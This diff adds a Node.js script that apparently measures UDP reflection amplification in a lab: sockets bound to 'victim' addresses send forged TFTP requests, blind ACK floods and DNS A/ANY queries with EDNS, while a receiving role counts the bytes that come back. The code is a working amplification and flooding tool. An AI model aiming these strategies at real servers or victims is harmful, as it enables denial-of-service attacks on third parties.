@@ -1,0 +1,151 @@
+/**
+ * A forger that sends in the name of victims, and the victims. Each strategy has another victim, so that its bytes can be
+ * counted. Arguments: `send` or `receive`, server, then `tftp`, seconds, first and last port for acknowledgments; or
+ * `dns`, seconds, name. Prints the bytes of each strategy.
+ */
+import { createSocket, type Socket } from 'node:dgram'
+import { once } from 'node:events'
+import { setTimeout as sleep } from 'node:timers/promises'
+
+/** Bytes on the link. */
+export type Traffic = { readonly sent: number; readonly received: number }
+
+/** In the subnet of the site for TFTP, outside of it for DNS; the addresses of clients 2 and 3. */
+const tftpVictims = ['172.16.7.201', '172.16.7.202', '172.16.7.203', '172.16.7.204']
+const dnsVictims = ['10.99.0.1', '10.99.1.1', '10.99.2.1']
+export const victims = [...tftpVictims, ...dnsVictims]
+
+const firstPort = 50_001
+/** How many transfers or queries a forger has at once with each victim. */
+const maxPorts = 10
+/** Ethernet, IPv4, and UDP. */
+const headerOctets = 14 + 20 + 8
+const packetsPerSecond = 5000
+const ackSeconds = 10
+
+type Sender = (victim: number, port: number, payload: Buffer, to: number) => void
+type Strategy = {
+  readonly name: string
+  readonly victim: string
+  readonly run: (send: Sender, victim: number) => void | Promise<void>
+}
+
+const request = (options: string) => Buffer.from(`\0\x01large.efi\0octet\0${options}`, 'latin1')
+const plain = request('')
+const withOptions = request('blksize\x001428\0windowsize\x004\0tsize\x000\0')
+const acknowledgment = (block: number) => Buffer.of(0, 4, (block >>> 8) & 255, block & 255)
+
+function tftpStrategies([first = 0, last = 0]: readonly number[]): Strategy[] {
+  const targets = Array.from({ length: last - first + 1 }, (_, index) => first + index)
+  // If all ports must be tried, more transfers only make a round longer.
+  const transfers = targets.length > 1000 ? 1 : maxPorts
+  const start = (send: Sender, victim: number, packet: Buffer, count = maxPorts) => {
+    for (let port = 0; port < count; port++) send(victim, port, packet, 69)
+  }
+  const blind =
+    (stepBlocks: number, delaySeconds: number): Strategy['run'] =>
+    async (send, victim) => {
+      await sleep(delaySeconds * 1000)
+      start(send, victim, withOptions, transfers)
+      await sleep(500)
+      const began = performance.now()
+      let sent = 0
+      for (let block = 0; ; block += stepBlocks) {
+        for (let port = 0; port < transfers; port++) {
+          for (const target of targets) {
+            const dueMs = (sent++ * 1000) / packetsPerSecond
+            const elapsed = performance.now() - began
+            if (elapsed > ackSeconds * 1000) return
+            if (dueMs > elapsed) await sleep(dueMs - elapsed)
+            send(victim, port, acknowledgment(block), target)
+          }
+        }
+      }
+    }
+  const [one, two, three, four] = tftpVictims as [string, string, string, string]
+  return [
+    {
+      ...{ name: 'no options, no ACK', victim: one },
+      run: (send, victim) => start(send, victim, plain),
+    },
+    {
+      ...{ name: 'options, no ACK', victim: two },
+      run: (send, victim) => start(send, victim, withOptions),
+    },
+    { name: 'blind ACK of each block', victim: three, run: blind(1, 0) },
+    { name: 'blind ACK of each window', victim: four, run: blind(4, ackSeconds + 1) },
+  ]
+}
+
+const typeA = 1
+const typeAny = 255
+
+function dnsStrategies(seconds: number, name: string): Strategy[] {
+  const zone = name.slice(name.indexOf('.') + 1)
+  const query = (qname: string, qtype: number, edns: boolean) => {
+    const labels = qname.split('.').flatMap((label) => [Buffer.of(label.length), Buffer.from(label)])
+    const opt = edns ? Buffer.of(0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 0) : Buffer.alloc(0)
+    const header = Buffer.of(0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, edns ? 1 : 0)
+    return Buffer.concat([header, ...labels, Buffer.of(0, qtype >>> 8, qtype & 255, 0, 1), opt])
+  }
+  const flood =
+    (packet: Buffer): Strategy['run'] =>
+    async (send, victim) => {
+      for (let sent = 0; sent < seconds * 200; sent++) {
+        send(victim, sent % maxPorts, packet, 53)
+        await sleep(5)
+      }
+    }
+  const [one, two, three] = dnsVictims as [string, string, string]
+  return [
+    { name: 'A', victim: one, run: flood(query(name, typeA, false)) },
+    { name: 'ANY of the zone, with EDNS', victim: two, run: flood(query(zone, typeAny, true)) },
+    {
+      name: 'A of a missing name, with EDNS',
+      victim: three,
+      run: flood(query(`missing.${zone}`, typeA, true)),
+    },
+  ]
+}
+
+async function open(address: string): Promise<Socket[]> {
+  return Promise.all(
+    Array.from({ length: maxPorts }, async (_, index) => {
+      const socket = createSocket({ type: 'udp4', lookup: (host, _options, done) => done(null, host, 4) })
+      const listening = once(socket, 'listening')
+      socket.bind({ address, port: firstPort + index })
+      await listening
+      socket.on('error', () => {})
+      return socket
+    }),
+  )
+}
+
+async function main([role = '', server = '', protocol = '', seconds = '0', ...rest]: readonly string[]) {
+  const strategies =
+    protocol === 'tftp' ? tftpStrategies(rest.map(Number)) : dnsStrategies(Number(seconds), rest[0] ?? '')
+  const sockets = await Promise.all(strategies.map(({ victim }) => open(victim)))
+  const octets = new Map(strategies.map(({ name }) => [name, 0]))
+  const count = (index: number, length: number) => {
+    const { name } = strategies[index] as Strategy
+    octets.set(name, (octets.get(name) ?? 0) + length + headerOctets)
+  }
+  if (role === 'send') {
+    // The victims are ready.
+    await sleep(500)
+    const send: Sender = (victim, port, payload, to) => {
+      count(victim, payload.length)
+      sockets[victim]?.[port]?.send(payload, to, server)
+    }
+    await Promise.all(strategies.map(({ run }, index) => run(send, index)))
+  } else {
+    // Nothing is answered: an ICMP error could end a transfer.
+    for (const [index, own] of sockets.entries()) {
+      for (const socket of own) socket.on('message', (payload) => count(index, payload.length))
+    }
+    await sleep((Number(seconds) + 1) * 1000)
+  }
+  process.stdout.write(JSON.stringify(Object.fromEntries(octets)), () => process.exit())
+}
+
+if (import.meta.main) await main(process.argv.slice(2))
